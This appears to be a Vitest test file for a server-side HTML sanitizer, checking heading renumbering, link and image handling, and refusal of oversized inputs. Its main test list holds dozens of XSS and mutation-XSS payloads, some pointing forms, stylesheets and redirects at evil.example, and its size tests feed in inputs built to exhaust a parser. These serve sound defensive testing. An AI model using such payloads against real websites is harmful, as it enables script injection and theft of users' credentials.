import { describe, expect, it, vi } from 'vitest';
import { safeHtml, warnOfRefusedText } from './safe-html.server';
import { summaryOf } from './summary.server';

describe('safeHtml', () => {
  it('keeps headings, lists, tables, emphasis and links, and puts its headings below the title of the page', () => {
    expect(safeHtml('<h1>A</h1><h3>B</h3><ul><li><em>x</em></li></ul>')).toBe(
      '<h2>A</h2><h3>B</h3><ul><li><em>x</em></li></ul>',
    );
    expect(safeHtml('<table><tr><th scope="col" onclick="x()">a</th><td colspan="2">b</td></tr></table>')).toBe(
      '<table><tr><th scope="col">a</th><td colspan="2">b</td></tr></table>',
    );
  });

  it.each([
    ['<h3>A</h3><h3>B</h3>', '<h2>A</h2><h2>B</h2>'],
    ['<h2>A</h2><h4>B</h4><h6>C</h6><h2>D</h2>', '<h2>A</h2><h3>B</h3><h4>C</h4><h2>D</h2>'],
    ['<h4>A</h4><h1>B</h1><h2>C</h2>', '<h2>A</h2><h2>B</h2><h3>C</h3>'],
    ['<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4>', '<h2>A</h2><h3>B</h3><h4>C</h4><h4>D</h4>'],
  ])('skips no heading level: %s', (written, shown) => {
    expect(safeHtml(written)).toBe(shown);
  });

  it('opens links to other sites in a new tab, and links of this site in place', () => {
    expect(safeHtml('<a href="https://a.example/x">x</a>')).toBe(
      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(safeHtml('<a href="/pages/2" target="_top">x</a>')).toBe('<a href="/pages/2">x</a>');
    expect(safeHtml('<a href="mailto:a@a.example">x</a>')).toBe('<a href="mailto:a@a.example">x</a>');
  });

  it('loads pictures lazily, and drops those that are not allowed', () => {
    expect(safeHtml('<img src="/media/a.svg" width="10" onerror="x()">')).toBe(
      '<img src="/media/a.svg" alt="" width="10" loading="lazy" decoding="async" />',
    );
    expect(safeHtml('<img src="http://a.example/a.png"><img src="data:image/png;base64,AA"><img>')).toBe('');
  });

  it('closes open elements', () => {
    expect(safeHtml('<p><strong>a<ul><li>b')).toBe('<p><strong>a<ul><li>b</li></ul></strong></p>');
  });

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>',
    '<p style="background:url(javascript:alert(1))" class="x" id="content">x</p>',
    '<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    // Published holes of sanitize-html: CVE-2026-44990, GHSA-jxwj-j7wr-gfrw, GHSA-x3q4-9hxx-gx8m, GHSA-c9rx-x947-fp3h and
    // animations.
    '<xmp><script>alert(1)</script><img src=x onerror=alert(1)></xmp>',
    '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
    '<xmp></xmp/><img src=x onerror=alert(1)></xmp>',
    '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
    '<math><xmp><img src=x onerror=alert(1)></xmp></math>',
    '<option>&lt;img src=x onerror=alert(1)&gt;</option>',
    '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>',
    '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
    `${'<iframe>'.repeat(20)}<img src=x onerror=alert(1)>`,
    '<svg><a><animate attributeName="href" values="#safe;javascript:alert(1)"/></a></svg>',
    '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
  ])('makes %s harmless', (html) => {
    const safe = safeHtml(html);
    const tags = [...safe.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
    for (const [, name, attributes = ''] of tags) {
      expect(['a', 'img', 'p', 'ul', 'li']).toContain(name);
      expect(attributes).not.toMatch(/\son\w+|style=|class=|id=|srcdoc|javascript:|data:|evil\.example/i);
    }
  });
});

it.each(['xmp', 'noembed', 'noframes', 'noscript', 'iframe', 'textarea', 'option', 'title', 'template', 'XMP'])(
  'the contents of <%s> are neither text nor markup',
  (tag) => {
    const html = `<p>Before</p><${tag}><b>inside</b> &lt;b&gt;inside&lt;/b&gt;</${tag}><p>After</p>`;
    expect(safeHtml(html)).toBe('<p>Before</p><p>After</p>');
    expect(summaryOf(html)).toBe('Before After');
  },
);

it('an element that a browser never closes hides the rest', () => {
  expect(safeHtml('<p>Before</p><plaintext>inside</plaintext>')).toBe('<p>Before</p>');
});

it.each([
  ['1,500,001 characters', 'x'.repeat(1_500_001)],
  ['65 open elements', '<b>'.repeat(65)],
  ['65 open elements of another name', `${'<font>'.repeat(65)}text`],
  ['65 nested lists', '<ul><li>'.repeat(65)],
  ['65 open elements in capitals', '<B x="y">'.repeat(65)],
  ["65 open elements that others' ends follow", '<b></i>'.repeat(65)],
  ['200,001 tags', '<br>'.repeat(200_001)],
  ['400,001 signs that are escaped', '<'.repeat(400_001)],
  ['400,001 others', '&'.repeat(400_001)],
  ['200,001 tags of closed elements', '<i></i>'.repeat(100_001)],
])('%s are refused before they are parsed', (_name, html) => {
  expect(safeHtml(html)).toBe('');
});

it('a refused text is logged once for each copy, and others are not', () => {
  const log = { warn: vi.fn() };
  const [page, other] = [{}, {}];
  for (const owner of [page, page, other]) warnOfRefusedText(log, owner, '<b>'.repeat(65), '/pages/1');
  warnOfRefusedText(log, {}, '', '/pages/2');
  expect(log.warn.mock.calls).toEqual(
    Array(2).fill([{ place: '/pages/1', length: 195 }, 'a text of the operator is too large to be shown']),
  );
});

it('an ordinary long page is read', () => {
  const page = '<h2>Title</h2><p>One<p>Two<ul><li>One<li>Two</ul>'.repeat(500);
  expect(safeHtml(page)).toContain('Two');
});
